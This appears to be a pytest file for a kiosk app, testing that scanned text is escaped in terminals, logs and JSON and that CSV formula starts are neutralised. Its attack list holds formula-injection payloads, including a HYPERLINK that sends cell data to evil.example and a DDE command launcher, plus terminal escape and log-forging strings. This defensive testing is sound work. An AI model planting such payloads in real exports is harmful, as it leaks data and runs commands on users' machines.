"""Scanned text shown safely: escaped for terminals and logs, neutralised in spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import logging

import pytest

from kiosk import report
from kiosk.models import Item, Scan, Verdict
from kiosk.text import PrintableLog, csv_cell, json_line, printable

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    """Each OWASP formula start is prefixed with a single quote."""
    assert csv_cell(cell) == "'" + cell


def test_plain_cells_are_unchanged() -> None:
    """Codes, titles and notes that start with anything else are written as they are."""
    for cell in ("B0001", "Café", "899.221 3 HAM t", "", "between - and 100 A"):
        assert csv_cell(cell) == cell


def test_printable_escapes_terminal_controls_and_keeps_letters() -> None:
    """ESC, newlines, C1 controls and bidi overrides are written as escapes; accents stay."""
    text = "KIOSK:location:\x1b[2J\x1b]0;pwned\x07Rak\n\u009b1m\u202eé ق"
    shown = printable(text)
    assert shown == "KIOSK:location:\\x1b[2J\\x1b]0;pwned\\x07Rak\\n\\x9b1m\\u202eé ق"
    assert shown.isprintable()


def test_json_line_escapes_c1_and_reads_back_the_same() -> None:
    """JSON output carries no raw control character and decodes to the original text."""
    text = "A\x1b[31m\u009b\x7f\u2028\u202eé"
    line = json_line({"code": text})
    assert line.isprintable() and "é" in line
    assert json.loads(line)["code"] == text


def test_log_messages_are_escaped(caplog: pytest.LogCaptureFixture) -> None:
    """A scanned newline cannot forge a second log line, nor ESC reach the reader's terminal."""
    handler_filter = PrintableLog()
    record = logging.LogRecord(
        "kiosk", logging.WARNING, "f", 1, "scan %s stored", ("A\nB\x1b",), None
    )
    assert handler_filter.filter(record)
    assert record.getMessage() == "scan A\\nB\\x1b stored"


def test_csv_report_neutralises_scanned_and_catalogue_text() -> None:
    """No cell of the CSV report starts a formula, whatever was scanned or catalogued."""
    catalog = {"B1": Item("B1", "100 A", '=HYPERLINK("x")', "@Rak")}
    scans = [
        Scan(i, code, Verdict.UNKNOWN if code != "B1" else Verdict.OK, "t", 0.0, "+Loc", 1)
        for i, code in enumerate(["B1", *ATTACKS], start=1)
    ]
    rep = report.build(catalog, scans, stocktake="", excluded_statuses=[])
    rows = list(csv.reader(io.StringIO(report.render(rep, catalog, "csv", "en"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0" in cells and "'@Rak" in cells and "'+Loc" in cells
